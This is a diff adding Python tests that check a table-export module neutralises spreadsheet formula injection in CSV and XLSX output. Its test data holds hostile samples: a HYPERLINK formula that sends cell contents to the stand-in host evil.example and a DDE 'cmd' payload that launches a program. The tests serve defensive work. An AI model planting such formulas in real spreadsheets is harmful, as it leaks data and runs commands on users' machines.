@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import codecs
+import csv
 import dataclasses
 import datetime as dt
 import html
@@ -284,3 +285,64 @@ def test_read_export_refuses_other_files():
 )
 def test_file_names_are_safe_and_readable(parts, ext, expected):
     assert exports.file_name(*parts, ext=ext) == expected
+
+
+# --- formulas (CSV/formula injection) -----------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"klik hier")'
+FORMULA_TEXTS = [HYPERLINK, "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=al gequote"]
+
+
+def _hostile_table() -> pd.DataFrame:
+    """Imported texts that a spreadsheet would run as formulas, next to numbers and signed changes."""
+    n = len(FORMULA_TEXTS)
+    return pd.DataFrame(
+        {
+            "Maatregel": FORMULA_TEXTS,
+            "Verschil": [-5, 3, 0, -12, 7, 1, 2][:n],
+            "Verandering": ["-58%", "+25%", "+1,5%", "-0,3%", "0%", "-12%", "+1.234"][:n],
+            "Per 1.000 inwoners": [-2.5, 1.0, 0.25, -0.5, 3.0, 4.5, 6.0][:n],
+        }
+    )
+
+
+def _starts_like_a_formula(text: str) -> bool:
+    return text[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("name", ["injectie.csv", "injectie.xlsx"])
+def test_formula_like_texts_are_neutralised_and_read_back(name):
+    frame = _hostile_table()
+    meta = dataclasses.replace(META, title=HYPERLINK, filters={"Maatregel": "@SUM(A1)"})
+    export = exports.table_csv if name.endswith(".csv") else exports.table_xlsx
+    raw = export(frame, meta)
+    if name.endswith(".csv"):
+        cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";") for cell in row]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(raw))["Gegevens"]
+        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], "live formulas"
+        cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+        numbers = [c.value for c in sheet["B"] if isinstance(c.value, int | float)]
+        assert -5 in numbers and -12 in numbers, "a negative number stays a number"
+    risky = [c for c in cells if _starts_like_a_formula(c)]
+    # What still starts with a sign: numbers, and signed changes such as '-58%' (sign, digits, separators, %)
+    assert all(re.fullmatch(r"[-+][\d.,]+%?", c) for c in risky), risky
+    assert "'" + HYPERLINK in cells and "'@SUM(A1:A2)" in cells and "''=al gequote" in cells
+    assert "-58%" in cells and "+25%" in cells, "signed changes stay readable"
+    read_meta, back = exports.read_export(raw, name)
+    assert read_meta["Titel"] == HYPERLINK and read_meta["Filters"] == "Maatregel: @SUM(A1)"
+    # XML (inside XLSX) gives a carriage return back as a line feed
+    assert list(back["Maatregel"]) == [t.replace("\r", "\n") if name.endswith(".xlsx") else t for t in FORMULA_TEXTS]
+    assert list(back["Verschil"]) == list(frame["Verschil"]) and list(back["Verandering"]) == list(frame["Verandering"])
+    assert list(back["Per 1.000 inwoners"]) == list(frame["Per 1.000 inwoners"])
+
+
+def test_a_formula_like_column_name_is_neutralised():
+    frame = pd.DataFrame({"=1+1": ["a"], "Aantal": [3]})
+    raw = exports.table_csv(frame, META)
+    assert "\r\n'=1+1;Aantal\r\n" in raw.decode("utf-8-sig")
+    _, back = exports.read_export(raw, "x.csv")
+    assert list(back.columns) == ["=1+1", "Aantal"]
+    sheet = openpyxl.load_workbook(io.BytesIO(exports.table_xlsx(frame, META)))["Gegevens"]
+    header = len(META.rows()) + 2
+    assert sheet.cell(header, 1).value == "'=1+1" and sheet.cell(header, 1).data_type == "s"
